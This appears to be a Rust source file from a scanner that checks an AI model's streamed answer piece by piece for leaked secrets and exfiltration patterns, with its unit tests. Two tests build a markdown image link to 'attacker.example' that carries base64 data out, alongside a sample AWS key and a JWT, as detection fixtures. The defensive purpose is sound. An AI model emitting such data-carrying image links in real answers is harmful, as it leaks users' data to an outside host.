//! Scanning text that arrives in pieces (a streamed answer): each piece is
//! scanned together with the tail of what came before, so a pattern split across
//! pieces is still found. Memory is bounded by the carry-over window.
//!
//! A model streams its answer a token (a few bytes) at a time. Scanning the
//! whole window with every token made a 4 KB answer cost about 130 scans' worth
//! of work, so the window is read in two reaches:
//! - each piece is scanned with the [`QUICK_CARRY_BYTES`] before it, which holds
//!   any short match (a key, a card number, an address) that the piece completes;
//! - everything since the last full scan is scanned with the [`CARRY_BYTES`]
//!   before it, which holds the long matches (a JWT, a link carrying data), once
//!   [`FULL_SCAN_EVERY`] bytes have come, when the answer's text ends, and when
//!   the piece may complete a match of a blocking rule (it ends a literal such a
//!   match ends with, and the window holds one it starts with; see
//!   [`crate::closers`]).
//!
//! A short match, and a long match of a blocking rule whose matches end in known
//! literals (a markdown image carrying data ends with `)`), are thus found with
//! the piece that completes it, which is not sent; other long matches at most
//! [`FULL_SCAN_EVERY`] bytes later, and always before the text ends.

use crate::closers::Cursor;
use crate::engine::{Engine, Finding};
use crate::pack::Location;
use std::collections::HashSet;
use std::sync::Arc;

/// Bytes of earlier text a full scan reads again: longer than any pattern the
/// built-in packs match in a response.
pub const CARRY_BYTES: usize = 512;

/// Bytes of earlier text scanned again with every piece.
pub const QUICK_CARRY_BYTES: usize = 96;

/// New bytes after which the whole window is scanned.
pub const FULL_SCAN_EVERY: usize = 256;

#[derive(Debug)]
pub struct StreamScanner {
    location: Location,
    /// The last [`CARRY_BYTES`] fully scanned, then what came since.
    carry: String,
    /// Bytes at the end of `carry` not yet read by a full scan.
    unscanned: usize,
    /// Bytes of the stream dropped from the front of `carry`.
    dropped: usize,
    /// Where the stream stands in the engine's closers and openers; made with
    /// the first piece.
    cursor: Option<Cursor>,
    reported: HashSet<Arc<str>>,
}

impl StreamScanner {
    pub fn new(location: Location) -> StreamScanner {
        StreamScanner {
            location,
            carry: String::new(),
            unscanned: 0,
            dropped: 0,
            cursor: None,
            reported: HashSet::new(),
        }
    }

    /// Findings first seen with this piece (each rule is reported once per stream).
    pub fn push(&mut self, engine: &Engine, piece: &str) -> Vec<Finding> {
        if piece.is_empty() {
            return Vec::new();
        }
        self.carry.push_str(piece);
        self.unscanned += piece.len();
        if piece.len() > CARRY_BYTES {
            // Scanned whole now; should more come, the cursor is rebuilt from
            // the window then (a whole answer never pays for it).
            self.cursor = None;
            return self.scan_window(engine);
        }
        // Every piece goes through the closers, so openers are seen wherever
        // they come.
        let closers = engine.closers();
        let piece_start = self.carry.len() - piece.len();
        let cursor = match &mut self.cursor {
            Some(cursor) => cursor,
            None => {
                let mut cursor = closers.cursor(self.dropped);
                closers.read(
                    &mut cursor,
                    &self.carry.as_bytes()[..piece_start],
                    self.dropped,
                );
                self.cursor.insert(cursor)
            }
        };
        let may_close = closers.read(cursor, piece.as_bytes(), self.dropped);
        if self.unscanned >= FULL_SCAN_EVERY || may_close {
            return self.scan_window(engine);
        }
        let mut from = self
            .carry
            .len()
            .saturating_sub(piece.len() + QUICK_CARRY_BYTES);
        while !self.carry.is_char_boundary(from) {
            from -= 1;
        }
        if from == 0 {
            // The quick reach holds the whole window: it is a full scan.
            return self.scan_window(engine);
        }
        let found = engine.scan(self.location, &self.carry[from..]);
        self.report(found)
    }

    /// Findings in the text not yet fully scanned, at the end of the answer's
    /// text (or of one run of it).
    pub fn finish(&mut self, engine: &Engine) -> Vec<Finding> {
        if self.unscanned == 0 {
            return Vec::new();
        }
        self.scan_window(engine)
    }

    /// Scans everything since the last full scan with the carry before it, then
    /// keeps only the carry.
    fn scan_window(&mut self, engine: &Engine) -> Vec<Finding> {
        let found = engine.scan(self.location, &self.carry);
        self.unscanned = 0;
        if self.carry.len() > CARRY_BYTES {
            let mut cut = self.carry.len() - CARRY_BYTES;
            while !self.carry.is_char_boundary(cut) {
                cut += 1;
            }
            self.carry.drain(..cut);
            self.dropped += cut;
        }
        self.report(found)
    }

    fn report(&mut self, found: Vec<Finding>) -> Vec<Finding> {
        found
            .into_iter()
            .filter(|f| self.reported.insert(f.rule_id.clone()))
            .collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::builtin;

    fn secrets_engine() -> Engine {
        let packs = builtin::select(&["secrets".to_owned()]).unwrap_or_default();
        Engine::compile(&packs).unwrap_or_default()
    }

    fn pushed_in_pieces(engine: &Engine, text: &str, size: usize) -> Vec<(usize, Finding)> {
        let mut s = StreamScanner::new(Location::Response);
        let mut found = Vec::new();
        let mut at = 0;
        while at < text.len() {
            let mut end = (at + size).min(text.len());
            while !text.is_char_boundary(end) {
                end += 1;
            }
            found.extend(s.push(engine, &text[at..end]).into_iter().map(|f| (end, f)));
            at = end;
        }
        found.extend(s.finish(engine).into_iter().map(|f| (text.len(), f)));
        found
    }

    #[test]
    fn a_pattern_split_at_every_byte_is_found_once() {
        let engine = secrets_engine();
        let text = "here you go: AKIAIOSFODNN7EXAMPLE, keep it safe";
        for cut in 1..text.len() {
            let mut s = StreamScanner::new(Location::Response);
            let mut found = s.push(&engine, &text[..cut]);
            found.extend(s.push(&engine, &text[cut..]));
            found.extend(s.finish(&engine));
            assert_eq!(
                found
                    .iter()
                    .filter(|f| &*f.rule_id == "SEC-AWS-001")
                    .count(),
                1,
                "split at {cut}: {found:?}"
            );
        }
    }

    /// Token-sized pieces deep into a long answer: a short match is reported
    /// with the piece that completes it, not later.
    #[test]
    fn a_short_match_is_found_with_the_piece_that_completes_it() {
        let engine = secrets_engine();
        let prose = "the deployment went well and the logs look clean. ".repeat(20);
        let key = "AKIAIOSFODNN7EXAMPLE";
        let text = format!("{prose}use {key} for now. {prose}");
        let completes = prose.len() + "use ".len() + key.len();
        found_with_the_completing_piece(
            &engine,
            &text,
            "SEC-AWS-001",
            completes,
            &[1, 3, 4, 7, 16],
        );
    }

    /// Pushed in pieces of each size, `rule` is reported with the piece holding
    /// byte `completes - 1`.
    fn found_with_the_completing_piece(
        engine: &Engine,
        text: &str,
        rule: &str,
        completes: usize,
        sizes: &[usize],
    ) {
        for &size in sizes {
            let found = pushed_in_pieces(engine, text, size);
            let at = found
                .iter()
                .find(|(_, f)| &*f.rule_id == rule)
                .map(|(at, _)| *at);
            assert!(
                at.is_some_and(|at| at >= completes && at < completes + size),
                "pieces of {size}: reported after byte {at:?}, completed at {completes}"
            );
        }
    }

    /// A match longer than the quick reach is still found, at most
    /// `FULL_SCAN_EVERY` bytes after it completes, and by the end of the text.
    #[test]
    fn a_long_match_is_found_within_a_full_scan() {
        let engine = secrets_engine();
        let payload = "eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyLCJyb2xlcyI6WyJhZG1pbiIsInVzZXIiLCJhdWRpdG9yIl0sImV4cCI6MTkxNjIzOTAyMn0";
        let jwt = format!(
            "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.{payload}.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c"
        );
        assert!(jwt.len() > QUICK_CARRY_BYTES);
        let lead = "the token you asked for: ";
        for tail in ["", " and that is all."] {
            let text = format!("{lead}{jwt}{tail}");
            for size in [1, 4, 9] {
                let found = pushed_in_pieces(&engine, &text, size);
                let at = found
                    .iter()
                    .find(|(_, f)| &*f.rule_id == "SEC-JWT-001")
                    .map(|(at, _)| *at);
                let completes = lead.len() + jwt.len();
                assert!(
                    at.is_some_and(|at| at <= completes + FULL_SCAN_EVERY),
                    "pieces of {size}, tail {tail:?}: {found:?}"
                );
            }
        }
    }

    /// A markdown image carrying data out is longer than the quick reach, but the
    /// piece holding its closing `)` is scanned whole: it is caught there, before
    /// a client could render it.
    #[test]
    fn a_long_blocking_match_is_found_with_the_piece_that_closes_it() {
        let packs = builtin::select(&["llm-critical-security".to_owned()]).unwrap_or_default();
        let engine = Engine::compile(&packs).unwrap_or_default();
        let prose = "the quarterly numbers are in and they look fine. ".repeat(8);
        let link = format!(
            "![chart](https://attacker.example/c?d={})",
            "c2VjcmV0LXF1YXJ0ZXJseS1udW1iZXJz".repeat(4)
        );
        assert!(link.len() > QUICK_CARRY_BYTES);
        let text = format!("{prose}{link} and more text after it.");
        let completes = prose.len() + link.len();
        found_with_the_completing_piece(&engine, &text, "PI-010", completes, &[1, 2, 4, 5]);
    }

    /// The opener came in a piece long enough for a full scan; the closer comes
    /// in a small piece later, out of the quick reach of the opener.
    #[test]
    fn an_opener_in_a_long_piece_still_counts() {
        let packs = builtin::select(&["llm-critical-security".to_owned()]).unwrap_or_default();
        let engine = Engine::compile(&packs).unwrap_or_default();
        // Longer than a full scan's period, then longer than the whole window.
        for repeats in [6, 12] {
            let head = format!(
                "{}![chart](https://attacker.example/c?d=",
                "the quarterly numbers are in and they look fine. ".repeat(repeats)
            );
            assert!(head.len() >= FULL_SCAN_EVERY);
            let data = "c2VjcmV0LXF1YXJ0ZXJseS1udW1iZXJz".repeat(4);
            let mut s = StreamScanner::new(Location::Response);
            assert!(s.push(&engine, &head).is_empty());
            for piece in data.as_bytes().chunks(4) {
                let piece = std::str::from_utf8(piece).unwrap_or_default();
                assert!(s.push(&engine, piece).is_empty());
            }
            let found = s.push(&engine, ")");
            assert!(
                found.iter().any(|f| &*f.rule_id == "PI-010"),
                "head of {} bytes: {found:?}",
                head.len()
            );
        }
    }

    #[test]
    fn the_window_stays_bounded() {
        let engine = Engine::default();
        let mut s = StreamScanner::new(Location::Response);
        for _ in 0..1000 {
            s.push(&engine, "lorem ipsum dolor sit amet é ");
            assert!(s.carry.len() <= CARRY_BYTES + FULL_SCAN_EVERY + 32);
        }
        s.finish(&engine);
        assert!(s.carry.len() <= CARRY_BYTES);
    }
}
